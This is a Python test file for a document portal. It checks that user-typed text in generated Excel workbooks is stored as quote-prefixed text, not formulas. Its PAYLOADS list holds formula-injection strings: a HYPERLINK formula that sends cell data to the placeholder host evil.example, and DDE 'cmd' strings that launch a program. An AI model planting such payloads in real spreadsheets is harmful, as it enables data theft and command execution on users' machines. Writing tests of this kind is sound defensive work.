"""Spreadsheet formula injection (issue 13 item 3): whatever a person typed is text in every
workbook the portal generates — the offline score sheet, the final sheet, the Appendix 13
summary and the sorting lists (Appendices 16, 17) — and numbers stay numbers.

Each test puts a payload in every free-text field the workbook shows, opens the file with
openpyxl and checks that no cell is a formula and that each payload is there as a text cell
marked with the quote prefix (the workbook's own form of OWASP's leading single quote)."""

import datetime
import io
from decimal import Decimal

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from audits import offline
from audits import services as audit_services
from core.documents import (
    XlsxColumn,
    XlsxSheet,
    build_xlsx,
    is_formula_like,
    neutralise_text,
)
from reports import documents as report_documents
from sorting import reports as sorting_reports
from sorting import selectors as sorting_selectors
from sorting import services as sorting_services
from sorting.choices import ApprovalRole, EntryKind, ItemCategory
from tests.reports.factories import signed_audit
from tests.sorting.factories import entry, make_round, make_tag, rarely_needed_list, unneeded_list

CHECKLIST = settings.BASE_DIR / "fixtures" / "checklist" / "checklist_2011.json"

# One payload per trigger OWASP lists, the first the issue's own example.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def payload(index):
    return PAYLOADS[index % len(PAYLOADS)]


def _cells(workbook):
    for worksheet in workbook.worksheets:
        for row in worksheet.iter_rows():
            yield from row


def assert_no_formula_from_text(content, expected_payloads):
    """No formula cell at all (the portal writes none of its own), every formula-like text is a
    quote-prefixed text cell, and each expected payload is found in such a cell."""
    workbook = load_workbook(io.BytesIO(content))
    found = set()
    for cell in _cells(workbook):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if is_formula_like(cell.value):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert cell.quotePrefix, (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            # XML reads a carriage return back as a line feed.
            found.update(p for p in expected_payloads if p.replace("\r", "\n") in cell.value)
    assert found == set(expected_payloads), set(expected_payloads) - found
    return workbook


# --- the helper --------------------------------------------------------------------------------


@pytest.mark.parametrize("text", PAYLOADS)
def test_csv_values_that_look_like_formulas_get_a_leading_quote(text):
    assert neutralise_text(text) == "'" + text


@pytest.mark.parametrize("value", ["Принтер", "1-2", " =1", "", 5, -3, Decimal("-1.5"), None])
def test_other_values_are_written_as_they_are(value):
    assert neutralise_text(value) == value


def test_build_xlsx_keeps_numbers_numeric_and_text_text():
    content = build_xlsx(
        [
            XlsxSheet(
                "Лист",
                [XlsxColumn(PAYLOADS[1]), XlsxColumn("n", number_format="0.00")],
                [[text, Decimal("-4.33")] for text in PAYLOADS] + [["-", -2]],
                heading=[PAYLOADS[2]],
            )
        ]
    )
    workbook = assert_no_formula_from_text(content, PAYLOADS)
    rows = list(workbook.worksheets[0].iter_rows(min_row=3, values_only=True))
    assert [row[0] for row in rows] == [*(p.replace("\r", "\n") for p in PAYLOADS), "-"]
    assert {row[1] for row in rows} == {-4.33, -2}
    numbers = [row[1] for row in workbook.worksheets[0].iter_rows(min_row=3)]
    assert {cell.data_type for cell in numbers} == {"n"}


# --- the workbooks -----------------------------------------------------------------------------


@pytest.fixture
def checklist(db):
    version, _created = audit_services.checklist_load(path=CHECKLIST)
    return version


@pytest.fixture
def hostile_audit(checklist, agency_a, working_group):
    """A signed audit whose every free text is a payload: the agency's names, the auditors'
    names, and an auditor's note on each criterion of step 1."""
    agency_a.short_name = payload(0)
    agency_a.full_name = payload(1)
    agency_a.save()
    people = [m.person for m in working_group.memberships.select_related("person")]
    for index, person in enumerate(people):
        person.full_name = payload(2 + index)
        person.save()
    notes = {code: payload(index) for index, code in enumerate(["1.1", "1.2", "1.3"])}
    return signed_audit(
        agency=agency_a,
        auditors=people[:3],
        date=datetime.date(2026, 3, 4),
        steps=(1,),
        notes=notes,
        scores={"1.1": [1, 3, 3]},
        decisions={"1.1": 3},
    )


def test_final_sheet_xlsx_shows_notes_and_names_as_text(hostile_audit):
    content = report_documents.final_sheet_xlsx(hostile_audit)
    workbook = assert_no_formula_from_text(content, PAYLOADS[:5])
    scores = {row[1]: row for row in workbook["Оценки"].iter_rows(min_row=5, values_only=True)}
    assert isinstance(scores["1.2"][3], int)  # scores stay numbers


def test_summary_xlsx_shows_agency_names_as_text(hostile_audit):
    content = report_documents.summary_xlsx(datetime.date(2026, 3, 1))
    workbook = assert_no_formula_from_text(content, [payload(0)])
    (row,) = [
        row
        for row in workbook.worksheets[0].iter_rows(values_only=True)
        if row and row[0] == payload(0)
    ]
    assert isinstance(row[3], float)  # the overall score is a number


def test_offline_sheet_shows_notes_and_names_as_text_and_reads_them_back(
    checklist, agency_a, team_a, auditor, auditor2, auditor3, group_head, login, monkeypatch
):
    from core import calendar

    monkeypatch.setattr(calendar, "today", lambda: datetime.date(2026, 3, 2))
    agency_a.full_name = payload(1)
    agency_a.save()
    auditor.person.full_name = payload(2)
    auditor.person.save()
    audit = audit_services.audit_plan(
        actor=group_head,
        agency=agency_a,
        date=datetime.date(2026, 3, 4),
        auditors=[user.person for user in (auditor, auditor2, auditor3)],
        completed_steps=[1, 2],
    )
    sheet = audit.sheets.get(auditor=auditor.person)
    notes = dict(zip(["1.1", "1.2", "1.3", "2.1"], PAYLOADS, strict=False))
    audit_services.sheet_save(actor=auditor, sheet=sheet, scores={"1.1": 2}, notes=notes)
    content = offline.sheet_workbook(sheet)
    # The name lines are prefixed by their label, so a name can never begin a cell.
    workbook = assert_no_formula_from_text(content, [*notes.values(), payload(1), payload(2)])
    ws = workbook[offline.SHEET_TITLE]
    row = next(r for r in range(offline.FIRST_ROW, ws.max_row + 1) if ws[f"A{r}"].value == "1.1")
    assert ws[f"D{row}"].value == 2 and ws[f"D{row}"].data_type == "n"
    # Uploaded back unchanged, the notes are exactly what was typed (no quote added).
    response = login(auditor).post(
        reverse("audits:sheet-upload", args=[audit.pk, auditor.person.pk]),
        {"file": io.BytesIO(content)},
    )
    assert response.status_code == 302
    saved = {s.criterion.code: s.note for s in sheet.scores.select_related("criterion")}
    for code, text in notes.items():
        assert saved[code] == text


def test_sorting_lists_show_every_typed_field_as_text(
    team_leader_a, team_member_a, agency_a, team_a
):
    sorting_services.classifier_load()
    agency_a.full_name = payload(1)
    agency_a.save()
    team_a.leader.full_name = payload(3)
    team_a.leader.position = payload(4)
    team_a.leader.save()
    sorting_round = make_round(
        team_leader_a, agency_a, participants=[team_a.leader], rooms="101, 102"
    )
    tag = make_tag(
        team_member_a,
        agency_a,
        sorting_round=sorting_round,
        room=payload(0),
        workplace_owner=payload(1),
        item_name=payload(2),
        inventory_number=payload(3),
    )
    custom_decision = sorting_services.classifier_entry_add(
        actor=team_leader_a,
        team=team_a,
        category=ItemCategory.UNNEEDED,
        kind=EntryKind.DECISION,
        text=payload(3),
    )
    sorting_services.line_decide(
        actor=team_leader_a,
        line=tag.list_line,
        decider_name=payload(4),
        decider_position=payload(1),
        decision=custom_decision,
        execute_by=tag.marked_on + datetime.timedelta(days=10),
    )
    line = sorting_services.rarely_needed_line_add(
        actor=team_member_a,
        sorting_round=sorting_round,
        data={
            "room": payload(1),
            "workplace_owner": payload(2),
            "item_name": payload(0),
            "inventory_number": payload(4),
            "quantity": 2,
            "regularity": entry(ItemCategory.RARELY_NEEDED, EntryKind.REGULARITY, 1),
        },
    )
    sorting_services.list_approve(
        actor=team_leader_a,
        sorting_list=unneeded_list(sorting_round),
        role=ApprovalRole.CHIEF_ACCOUNTANT,
        full_name=payload(0),
        position=payload(2),
        agreed_on=sorting_round.date_from,
    )
    for sorting_list, expected in (
        (unneeded_list(sorting_round), PAYLOADS[:5]),
        (rarely_needed_list(sorting_round), PAYLOADS[:5]),
    ):
        detail = sorting_selectors.list_detail(user=team_leader_a, pk=sorting_list.pk)
        content = sorting_reports.list_xlsx(detail)
        workbook = assert_no_formula_from_text(content, expected)
        first = next(iter(workbook.worksheets[0].iter_rows(min_row=5, values_only=True)))
        assert first[0] == 1 and isinstance(first[4], int)
    assert line.item_name == payload(0)
